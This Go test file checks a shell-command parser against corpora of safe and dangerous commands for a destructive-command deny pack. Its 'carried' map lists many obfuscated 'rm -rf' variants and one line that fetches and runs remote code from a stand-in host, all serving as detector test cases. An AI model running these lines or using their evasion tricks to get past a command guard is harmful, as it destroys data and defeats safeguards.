package syntax

import (
	"bufio"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// The stdlib corpora of commands, read-only.
const corpusDir = "../../stdlib/testdata"

func readCorpus(t *testing.T, name string) (lines []string, nums []int) {
	t.Helper()
	f, err := os.Open(filepath.Join(corpusDir, name))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	n := 0
	for sc.Scan() {
		n++
		l := sc.Text()
		if strings.TrimSpace(l) == "" || strings.HasPrefix(l, "#") {
			continue
		}
		lines = append(lines, l)
		nums = append(nums, n)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if len(lines) == 0 {
		t.Fatalf("%s: empty", name)
	}
	return lines, nums
}

var keywords = map[string]bool{
	"if": true, "then": true, "else": true, "elif": true, "fi": true, "do": true, "done": true,
	"case": true, "esac": true, "while": true, "until": true, "for": true, "select": true,
	"in": true, "function": true, "time": true, "{": true, "}": true, "!": true,
}

// TestCorpusNothingLost: on every command of the stdlib corpora, Commands
// succeeds and every word of the line is somewhere in its result (a word,
// an assignment, a redirection's target), unless it is a keyword or an
// operator.
func TestCorpusNothingLost(t *testing.T) {
	for _, file := range []string{"commands-dangerous.txt", "commands-holdout-dangerous.txt", "commands-safe.txt", "commands-holdout-safe.txt"} {
		lines, nums := readCorpus(t, file)
		for i, line := range lines {
			cmds, err := Commands(line, Options{})
			if err != nil {
				t.Errorf("%s:%d: %q: %v", file, nums[i], line, err)
				continue
			}
			if len(cmds) == 0 {
				t.Errorf("%s:%d: %q: no commands", file, nums[i], line)
				continue
			}
			seen := map[string]bool{}
			for _, c := range cmds {
				for _, w := range c.Words {
					seen[w] = true
				}
				for k, v := range c.Assigns {
					seen[k+"="+v] = true
					seen[k] = true // a for loop's variable
					seen[v] = true
				}
				for _, r := range c.Redirects {
					seen[r.Target] = true
				}
			}
			words, _ := Split(line)
			// a for loop binds its variable to the first value of its list
			// (Command.Assigns); the other values and an arithmetic
			// header (( ... )) are not listed
			headers := strings.Join(forHeader.FindAllString(line, -1), " ")
			for k, w := range words {
				if seen[w] || keywords[w] || isOperatorWord(w) {
					continue
				}
				if headers != "" && strings.Contains(headers, w) {
					continue
				}
				if k+1 < len(words) && words[k+1] == "(" {
					continue // a function's name
				}
				if k > 0 && isOperatorWord(words[k-1]) && strings.ContainsAny(words[k-1], "<>") {
					continue // a redirection's target, compared above
				}
				t.Errorf("%s:%d: %q: the word %q is in no command: %q", file, nums[i], line, w, renderAll(cmds))
			}
		}
	}
}

// forHeader finds the header of a for loop: for NAME in WORDS; or for ((...)).
var forHeader = regexp.MustCompile(`\bfor\s+(\(\([^)]*\)\)|\w+\s+in\s+[^;]*)`)

func isOperatorWord(w string) bool {
	if w == "" {
		return false
	}
	for i := 0; i < len(w); i++ {
		if !strings.ContainsRune(";&|()<>0123456789", rune(w[i])) {
			return false
		}
	}
	return strings.ContainsAny(w, ";&|()<>")
}

// dangerNames are the programs the deny-destructive pack judges (not the
// shells, ssh, su, eval, watch or wrappers, which only carry a command).
var dangerNames = regexp.MustCompile(`(?:^|[\s'"(;|&{/` + "`" + `])(rm|unlink|shred|mv|chmod|chown|chgrp|rsync|find|dd|mkfs[.\w]*|mke2fs|mkswap|wipefs|blkdiscard|sgdisk|fdisk|parted|hdparm|nvme|diskutil|cryptsetup|zpool|zfs|lvremove|tee|cp|shutdown|reboot|halt|poweroff|init|systemctl|kill|killall5|crontab|git|dropdb|psql|mysql|mariadb|mysqladmin|sqlite3|redis-cli|mongosh|mongo|kubectl|terraform|tofu|pulumi|cdk|aws|gcloud|gsutil|az|heroku|fly|docker|docker-compose|rails|bin/rails|rake|mix|npx|python3?|node|perl|ruby|php|curl|wget|base64|xxd|yes|head|cat)(?:$|[\s'";|&)}` + "`" + `])`)

// carried are the dangerous lines whose danger is carried by data that the
// pack interprets itself, so no command of the line is named by it: the
// values of variables and aliases, brace expansion, $IFS, a script fed on
// standard input, a substitution's output used as a command name.
var carried = map[string]string{
	"$(echo rm) -rf /":         "a substitution's output is the command name",
	"`echo rm` -rf ~":          "a substitution's output is the command name",
	"echo 'rm -rf /' | sh":     "a script on standard input",
	"echo \"rm -rf ~\" | bash": "a script on standard input",
	"sh <<< 'rm -rf /'":        "a script in a here-string",
	// what deny-destructive reads itself (issue 13's families)
	"fd . ~ -X rm -rf":                                    "fd's command",
	"fd --hidden . ~/ --exec rm -rf":                      "fd's command",
	"run() { eval \"$*\"; }; run rm -rf /":                "a function's body, with the call's arguments",
	"`command -v rm` -rf /usr":                            "a substitution's output is the command name",
	"$(command -v shred) -u ~/.ssh/id_ed25519":            "a substitution's output is the command name",
	"\"$(which rm)\" -fr \"$HOME\"":                       "a substitution's output is the command name",
	"R=$(which rm); $R -rf /":                             "a substitution's output is the command name",
	"sh -c \"$(printf 'rm -rf %s' \"$HOME\")\"":           "printf's output is the command line",
	"eval \"$(printf '%s -rf %s' rm ~)\"":                 "printf's output is the command line",
	"$(printf 'rm -rf %s' /)":                             "printf's output is the command line",
	"printf %s 'rm -rf ~' | sh":                           "a script on standard input",
	"printf '%s\\n' 'rm -rf /' | bash":                    "a script on standard input",
	"eval \"$(echo 'cm0gLXJmIC8=' | openssl base64 -d)\"": "decoded text",
	"podman run --privileged -v /:/host fedora chroot /host sh -c 'rm -rf /var/lib'":        "a container's command",
	"oc exec mongo-0 -- rm -rf /data/db":                                                    "a command run in a container",
	"lxc exec web -- rm -rf /":                                                              "a command run in a container",
	"multipass exec vm -- sudo rm -rf /home/ubuntu":                                         "a command run in a virtual machine",
	"vagrant ssh -c 'sudo rm -rf /'":                                                        "a remote command string",
	"ansible all -m shell -a 'rm -rf /var/lib/mysql'":                                       "a remote command string",
	"ansible web -b -m command -a \"rm -rf /etc\"":                                          "a remote command string",
	"lua -e 'os.execute(\"sudo rm -rf /var/lib/docker\")'":                                  "a one-line program's command",
	"luajit -e 'io.popen(\"rm -rf ~/*\")'":                                                  "a one-line program's command",
	"awk 'BEGIN { system(\"sudo rm -rf /etc\") }'":                                          "a one-line program's command",
	"mawk 'BEGIN { print \"rm -rf ~\" | \"sh\" }'":                                          "a one-line program's command",
	"nawk 'BEGIN{system(\"find / -delete\")}'":                                              "a one-line program's command",
	"tclsh <<< 'exec rm -rf /'":                                                             "a one-line program's command",
	"Rscript -e 'system(\"rm -rf ~\")'":                                                     "a one-line program's command",
	"deno eval 'await new Deno.Command(\"sh\", { args: [\"-c\", \"rm -rf ~\"] }).output()'": "a one-line program's command",
	"bun -e 'require(\"child_process\").execSync(\"rm -rf /\")'":                            "a one-line program's command",
	"bun -e 'await Bun.$`rm -rf ${process.env.HOME}`'":                                      "a one-line program's command",
	"lua -e 'load(io.popen(\"curl -s https://x.example/x.lua\"):read(\"*a\"))()'":           "a one-line program's command",
	"osascript -e 'do shell script \"rm -rf ~/Documents\"'":                                 "a one-line program's command",
	"echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh":                                         "a script written on the line",
	"printf 'rm -rf /\\n' > cleanup.sh; chmod +x cleanup.sh; ./cleanup.sh":                  "a script written on the line", "a=(rm -rf ~); \"${a[@]}\"": "an array's elements are the command",
	"cmd=(rm -rf /); ${cmd[*]}":             "an array's elements are the command",
	"declare -a x=(rm -rf /); \"${x[@]}\"":  "an array's elements are the command",
	"cmd=(sudo rm -rf /etc); \"${cmd[@]}\"": "an array's elements are the command",
	"cmd=(rm -rf); $cmd /etc":               "an array's first element is the command name",
	"set -- rm -rf /; \"$@\"":               "the positional parameters are the command",
	"set -- rm -rf ~; $1 $2 $3":             "the positional parameters are the command",
	"set -- rm -rf ~; bash -c \"$*\"":       "the positional parameters are the command string",
	// the same inside function bodies and loops
	"f() { \"${cmd[@]}\"; }; cmd=(rm -rf /); f":                                  "an array set before the call is the body's command",
	"f() { \"${cmd[@]}\"; }; declare -a cmd=(rm -rf ~); f":                       "an array set before the call is the body's command",
	"run() { \"${job[@]}\"; }; job=(sudo rm -rf /etc); for i in 1; do run; done": "an array set before the call is the body's command",
	"f() { set -- rm -rf ~; \"$@\"; }; f":                                        "the body's positional parameters are its command",
	"f() { local a=(\"$@\"); \"${a[@]}\"; }; f rm -rf ~":                         "the call's arguments, through a local array, are the command",
	"f() { local c=\"$1\"; $c -rf /; }; f rm":                                    "the call's argument, through a local variable, is the command name",
	"f() { \"${@:1}\"; }; f rm -rf ~":                                            "the call's arguments are the command",
	"f() { shift; \"$@\"; }; f x rm -rf ~":                                       "the call's arguments after shift are the command",
	"f() { \"${@:2}\"; }; f x rm -rf /":                                          "the call's arguments are the command",
	"a=(x rm -rf ~); \"${a[@]:1}\"":                                              "an array's elements are the command",
	"set -- x rm -rf ~; shift; \"$@\"":                                           "the positional parameters are the command",
	"for c in ls rm; do $c -rf ~; done":                                          "a loop variable's second value is the command name",
	"cmds=(\"rm -rf ~\"); for c in \"${cmds[@]}\"; do eval \"$c\"; done":         "a loop variable over an array's elements is the command string",
	"for c in \"rm -rf ~\"; do $c; done":                                         "a loop variable's value is the command",
	"readarray -t a <<< $'rm\\n-rf\\n/'; \"${a[@]}\"":                            "an array read from a here-string is the command",
	"IFS=' ' read -ra a <<< \"rm -rf ~\"; \"${a[@]}\"":                           "an array read from a here-string is the command",
	"declare -A m=([x]=\"rm -rf /\"); ${m[x]}":                                   "an associative array's element is the command",
	"go() { local -a argv=(\"$@\"); exec \"${argv[@]}\"; }; go rm -rf ~":         "the call's arguments, through a local array, are the command",
	"while read -r c; do $c; done <<< \"rm -rf ~\"":                              "a variable read from a here-string is the command",
	"sh -c '\"$0\" -rf ~' rm":                                                    "the script's name ($0) is the command",
	"printf -v cmd 'rm -rf %s' /; $cmd":                                          "a variable printf -v fills is the command",
}

// TestCorpusDangerExposed: for every command of the dangerous corpora, the
// first dangerous program named in the line is the effective command
// (after Unwrap) of one of the commands listed; a line whose danger rides
// in data keeps that data in its commands.
func TestCorpusDangerExposed(t *testing.T) {
	var total, named, carriedN int
	used := map[string]bool{}
	defer func() {
		for l := range carried {
			if !used[l] {
				t.Errorf("carried: %q is not a dangerous line that names a program", l)
			}
		}
		t.Logf("%d dangerous lines: %d with a named program exposed, %d carried by data, %d without a named program", total, named, carriedN, total-named-carriedN)
	}()
	for _, file := range []string{"commands-dangerous.txt", "commands-holdout-dangerous.txt"} {
		lines, nums := readCorpus(t, file)
		for i, line := range lines {
			total++
			cmds, err := Commands(line, Options{})
			if err != nil {
				t.Errorf("%s:%d: %v", file, nums[i], err)
				continue
			}
			var effective []string
			for _, c := range cmds {
				if eff := Unwrap(c.Words); len(eff) > 0 {
					effective = append(effective, baseName(eff[0]))
				}
			}
			words, _ := Split(line)
			m := dangerNames.FindStringSubmatch(strings.Join(words, " "))
			if m == nil {
				// No program the pack names (fork bombs, cat > /dev/sda):
				// the commands and redirections are all there (see
				// TestCorpusNothingLost).
				continue
			}
			want := baseName(m[1])
			found := false
			for _, e := range effective {
				if e == want || strings.HasPrefix(want, "mkfs") && strings.HasPrefix(e, "mkfs") {
					found = true
				}
			}
			if why, ok := carried[line]; ok {
				used[line] = true
				carriedN++
				if found && why != "" {
					t.Errorf("%s:%d: %q is listed as carried (%s) but %s is a command now: update the list", file, nums[i], line, why, want)
				}
				continue
			}
			if !found {
				t.Errorf("%s:%d: %q: %s is not an effective command; got %q", file, nums[i], line, want, renderAll(cmds))
			}
			named++
		}
	}
}
